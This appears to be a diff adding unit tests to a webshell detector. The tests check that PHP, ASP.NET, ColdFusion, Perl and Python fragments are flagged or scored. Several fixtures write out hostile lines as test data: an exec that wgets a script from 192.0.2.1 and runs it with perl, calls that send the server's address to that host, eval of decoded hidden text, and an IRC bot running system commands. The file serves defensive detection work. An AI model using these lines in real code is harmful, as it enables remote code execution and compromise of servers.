@@ -240,6 +240,60 @@ TEST(WebshellDeeds, PasswordsThatAreMailed) {
               Not(Contains("code.harvest")));
 }
 
+// The whole script asks a fixed host for what a visitor asked of it.
+TEST(WebshellDeeds, PagesOfAnotherHost) {
+  EXPECT_GE(score_of("echo file_get_contents('http://192.0.2.1/?u=' . $_SERVER['REQUEST_URI']);"),
+            30);
+  EXPECT_LT(score_of("echo file_get_contents('http://192.0.2.1/news.xml');"), 30);
+}
+
+TEST(WebshellDeeds, NothingButAnEncodedText) {
+  const auto score = [](std::size_t markup) {
+    std::string hidden;
+    for (int i = 0; i < 1200; ++i) hidden += static_cast<char>('a' + i * 7 % 26);
+    return score_of("echo gzuncompress(base64_decode('" + hidden + "')); ?" + ">" +
+                    std::string(markup, ' '));
+  };
+  EXPECT_GE(score(0), 30);
+  EXPECT_LT(score(4000), 30);
+}
+
+TEST(WebshellDeeds, TellsItsOwnAddress) {
+  const std::string own = "'http://' . $_SERVER['SERVER_NAME'] . $_SERVER['PHP_SELF']";
+  EXPECT_THAT(seen_in("function g($u) { return file_get_contents($u); } $h = " + own +
+                      "; echo g('http://192.0.2.1/index.php?host=' . $h);"),
+              Contains("code.calls_home"));
+  EXPECT_THAT(
+      seen_in("mail('a@example.org', 'x', $_SERVER['HTTP_HOST'] . $_SERVER['REQUEST_URI']);"),
+      Contains("code.calls_home"));
+  EXPECT_THAT(seen_in("echo '<a href=\"' . " + own + " . '\">here</a>'; echo $_GET['a'];"),
+              Not(Contains("code.calls_home")));
+}
+
+TEST(WebshellDeeds, DeletesItself) {
+  EXPECT_THAT(seen_in("touch('a.php', time() - 99); unlink(__FILE__);"),
+              Contains("code.deletes_itself"));
+  EXPECT_THAT(seen_in("unlink('cache/' . $name);"), Not(Contains("code.deletes_itself")));
+}
+
+// A command of constants that fetches a program and runs it.
+TEST(WebshellDeeds, ProgramsThatAreFetched) {
+  const std::string start = "$u = 'http://192.0.2.1/'; ex" + std::string("ec('cd /tmp; wg");
+  EXPECT_THAT(seen_in(start + "et ' . $u . 'a.txt; perl a.txt');"), Contains("code.run_remote"));
+  EXPECT_THAT(seen_in(start + "et ' . $u . 'a.txt; cat a.txt');"),
+              Not(Contains("code.run_remote")));
+}
+
+TEST(WebshellDeeds, CodeBetweenComments) {
+  std::string hidden;
+  for (int i = 0; i < 60; ++i) hidden += static_cast<char>('a' + i * 7 % 26);
+  const std::string decoder =
+      "function d($t) { $o = ''; foreach (str_split($t) as $c) $o .= chr("
+      "strpos($table, $c) ^ 7); return $o; } ";
+  EXPECT_THAT(seen_in(decoder + kEval + "('/*x*/' . d('" + hidden + "') . '/*y*/');"),
+              Contains("code.run_opaque"));
+}
+
 // An icon that is included, its name in octal escapes.
 TEST(WebshellDeeds, IncludedIcons) {
   EXPECT_THAT(seen_in("@include \"\\057srv/\\167ww/.a1\\142.ic\\157\";"),
@@ -389,6 +443,72 @@ TEST(WebshellPages, AccountsOfTheFileService) {
   EXPECT_THAT(seen_in_page(send + " %>", "a.asp"), Contains("code.account_input"));
   EXPECT_THAT(seen_in_page("<% u = request(\"u\"): s = \"SITE HELP\" %>", "a.asp"),
               Not(Contains("code.account_input")));
+}
+
+TEST(WebshellPages, ServersThatListen) {
+  const std::string page = "<%@ Page Language=\"C#\" %><% var s = new Socket(AddressFamily.X, ";
+  EXPECT_THAT(
+      seen_in_page(page + "SocketType.R" + std::string("aw, ProtocolType.IP); %>"), "a.aspx"),
+      Contains("code.listens"));
+  EXPECT_THAT(seen_in_page(page + "SocketType.Stream, ProtocolType.Tcp); %>", "a.aspx"),
+              Not(Contains("code.listens")));
+}
+
+TEST(WebshellPages, SettingsOfTheServer) {
+  EXPECT_THAT(seen_in_page("<%@ Page Language=\"C#\" %><% var e = new Entry(\"II" +
+                               std::string("S://localhost/W3SVC\"); %>"),
+                           "a.aspx"),
+              Contains("code.account_list"));
+  EXPECT_THAT(seen_in_page("<%@ Page Language=\"C#\" %><% var e = \"IIS is here\"; %>", "a.aspx"),
+              Not(Contains("code.account_list")));
+}
+
+TEST(WebshellPages, StatementsBehindBlanks) {
+  EXPECT_THAT(seen_in_page("<cfquery name=q datasource=d>\n  #form.sql#\n</cfquery>", "a.cfm"),
+              Contains("code.query_input"));
+}
+
+TEST(WebshellPages, OneCommandAndNothingElse) {
+  const std::string start =
+      "<%@ Page Language=\"C#\" %><% Process.St" + std::string("art(\"a.exe\"); ");
+  EXPECT_GE(analyse(start + "%>", "a.aspx").score(), 30);
+  EXPECT_LT(analyse(start + "%>" + std::string(5000, 'x'), "a.aspx").score(), 30);
+}
+
+// Uuencoded Perl holds "<%" now and then; its first line tells what it is.
+TEST(WebshellPages, PerlWithSignsOfPages) {
+  const std::string body = "{_M<%EVAL<%REQUEST('=%>\n_};";
+  for (const std::string& code : {"eval unpack u=>q" + body, "#!/usr/bin/perl\nprint q" + body}) {
+    const Judgement judgement = analyse(code, "a.bin");
+    ASSERT_FALSE(judgement.languages.empty()) << code;
+    EXPECT_EQ(judgement.languages.front(), ScriptLanguage::kPerl) << code;
+  }
+}
+
+TEST(WebshellPages, ChatsOfPerl) {
+  const std::string chat = "#!/usr/bin/perl\nprint $s \"NI" +
+                           std::string("CK a\\r\\n\"; print $s ") + "\"PRIV" +
+                           std::string("MSG #a :done\\r\\n\"; ");
+  EXPECT_THAT(seen_in_page(chat + "sys" + std::string("tem($order);"), "a.pl"),
+              Contains("code.bot"));
+  EXPECT_THAT(seen_in_page(chat, "a.pl"), Not(Contains("code.bot")));
+}
+
+// Programs of the command line read their input and run commands; a page is asked by a request.
+TEST(WebshellPages, ProgramsThatReadTheirInput) {
+  const std::string run = "sys" + std::string("tem('ls');");
+  EXPECT_THAT(seen_in_page("#!/usr/bin/perl\nmy $a = <STDIN>; " + run, "a.pl"),
+              Not(Contains("code.page")));
+  EXPECT_THAT(
+      seen_in_page("#!/usr/bin/perl\nread(STDIN, $b, $ENV{'CONTENT_LENGTH'}); " + run, "a.pl"),
+      Contains("code.page"));
+  const std::string python = "#!/usr/bin/env python\nimport os, io, cgi\n";
+  const std::string call = "os.sys" + std::string("tem('ls')\n");
+  EXPECT_THAT(seen_in_page(python + "s = io.StringIO()\nprint(s.getvalue())\n" + call, "a.py"),
+              Not(Contains("code.page")));
+  EXPECT_THAT(
+      seen_in_page(python + "f = cgi.FieldStorage()\nprint(f.getvalue('a'))\n" + call, "a.py"),
+      Contains("code.page"));
 }
 
 }  // namespace
